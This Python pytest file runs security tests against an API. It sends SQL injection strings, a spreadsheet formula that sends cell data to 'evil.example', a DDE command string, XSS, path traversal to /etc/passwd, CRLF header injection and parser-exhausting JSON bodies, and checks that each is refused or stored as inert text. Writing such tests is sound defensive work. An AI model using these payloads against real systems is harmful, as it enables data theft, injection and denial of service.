"""Hostile bodies and texts, for every operation that takes one: refused by name, or stored as the text they are."""

from typing import Any

import pytest

from models.kernel.session import Database
from tests.support.client import ApiClient
from tests.support.operations import Operation, leaves, operations_of, with_leaf

JSON = {"Content-Type": "application/json"}
GIVEN_TO_ONE = {"id", "owner", "createdAt", "updatedAt", "deletedAt", "version", "isAdmin", "passwordHash", "createdBy"}
SAID_OF_OTHERS = {"cancelJobs": {"owner"}, "redriveJobs": {"owner"}}  # a filter, not what the thing becomes
INJECTIONS = [
    "Robert'); DROP TABLE users; --",
    "' OR '1'='1' UNION SELECT password_hash FROM users --",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "{{7*7}}${7*7}%s%n\\",
    "../../../../etc/passwd",
    "a\r\nX-Evil: 1",
]
RAW = {
    "nested lists": b"[" * 200_000,
    "nested objects": b'{"a":' * 100_000,
    "closed nested lists": b"[" * 5_000 + b"]" * 5_000,
    "no UTF-8": b'{"name": "\xff\xfe"}',
    "half a surrogate": b'{"name": "\\ud800"}',
    "not a number": b'{"name": NaN}',
    "infinity": b'{"amount": 1e999999}',
    "a huge number": b'{"amount": ' + b"9" * 100_000 + b"}",
    "a huge exponent": b'{"amount": 1e-99999999}',
    "a name twice": b'{"name": "Noa", "name": "Dana"}',
    "nothing": b"",
    "null": b"null",
    "a text": b'"text"',
    "a list": b"[]",
    "a byte order mark": b"\xef\xbb\xbf{}",
}
HUGE: list[Any] = [10**30, -(10**30), 10**400, 1e308, 2**63, 2**31, -1]


@pytest.fixture
def writing(document: dict[str, Any]) -> list[Operation]:
    return [operation for operation in operations_of(document) if operation.body is not None]


@pytest.mark.parametrize("name", RAW)
async def test_a_body_that_makes_little_sense_breaks_nothing(
    client: ApiClient, writing: list[Operation], world: dict[str, str], name: str
) -> None:
    assert len(writing) > 50
    for operation in writing:
        answer = await client.request(
            operation.method, f"http://test{operation.at(world)}", content=RAW[name], headers=JSON
        )
        assert str(answer.status_code) in operation.content["responses"], f"{operation.name}: {answer.text}"
        assert answer.status_code < 500, f"{operation.name}: {answer.text}"


async def test_a_text_with_nul_is_refused_by_the_name_of_its_field(
    client: ApiClient, writing: list[Operation], world: dict[str, str]
) -> None:
    tried = 0
    for operation in writing:
        body = operation.body_for(world)
        texts = [path for path, value in leaves(body) if isinstance(value, str)]
        for path in texts:
            answer = await client.request(
                operation.method, f"http://test{operation.at(world)}", json=with_leaf(body, path, "a\0b")
            )
            assert answer.status_code == 400, f"{operation.name} {path}: {answer.text}"
            assert path in [fault["field"] for fault in answer.json()["errors"]], f"{operation.name}: {answer.text}"
            tried += 1
    assert tried > 100


async def test_what_is_given_to_one_cannot_be_taken(
    client: ApiClient, writing: list[Operation], world: dict[str, str]
) -> None:
    """Mass assignment: whatever a caller has no say in is refused by name, in every body."""
    for operation in writing:
        body = operation.body_for(world)
        extra = dict.fromkeys(sorted(GIVEN_TO_ONE), "1")
        answer = await client.request(operation.method, f"http://test{operation.at(world)}", json={**body, **extra})
        assert answer.status_code == 400, f"{operation.name}: {answer.status_code} {answer.text}"
        named = {fault["field"] for fault in answer.json()["errors"]}
        taken = GIVEN_TO_ONE - SAID_OF_OTHERS.get(operation.name, set()) - named
        assert taken == set(), f"{operation.name}: {taken}"


async def test_numbers_beyond_all_measure_are_refused(
    client: ApiClient, writing: list[Operation], world: dict[str, str]
) -> None:
    tried = 0
    for operation in writing:
        body = operation.body_for(world)
        for path, value in leaves(body):
            if isinstance(value, int | float) and not isinstance(value, bool):
                for huge in HUGE:
                    answer = await client.request(
                        operation.method, f"http://test{operation.at(world)}", json=with_leaf(body, path, huge)
                    )
                    assert answer.status_code < 500, f"{operation.name} {path}={huge}: {answer.text}"
                    tried += 1
    assert tried > 50


async def test_hostile_texts_are_stored_as_texts_or_refused(
    client: ApiClient, writing: list[Operation], world: dict[str, str], database: Database
) -> None:
    stored = 0
    for operation in (each for each in writing if each.method == "POST" and "201" in each.content["responses"]):
        body = operation.body_for(world)
        for path in [path for path, value in leaves(body) if isinstance(value, str)]:
            for text in INJECTIONS:
                answer = await client.request(
                    "POST", f"http://test{operation.at(world)}", json=with_leaf(body, path, text)
                )
                assert answer.status_code < 500, f"{operation.name} {path}: {answer.text}"
                if path.startswith("headers."):
                    assert (answer.status_code == 201) == ("\n" not in text), f"{operation.name}: {text!r}"
                elif answer.status_code == 201:
                    told = dict(leaves(answer.json()))
                    assert text in told.values(), f"{operation.name} {path}: {answer.text}"
                    stored += 1
    assert stored > 100
    assert await database.fetch("SELECT 1 FROM users")


async def test_hostile_questions_find_nothing_and_break_nothing(
    client: ApiClient, document: dict[str, Any], world: dict[str, str]
) -> None:
    tried = 0
    for operation in operations_of(document):
        if operation.method != "GET":
            continue
        names = [each["name"] for each in operation.content.get("parameters", []) if each.get("in") == "query"]
        for name in names:
            for text in INJECTIONS:
                answer = await client.get(f"http://test{operation.at(world)}", params={name: text})
                assert answer.status_code < 500, f"{operation.name} {name}={text}: {answer.text}"
                tried += 1
    assert tried > 200
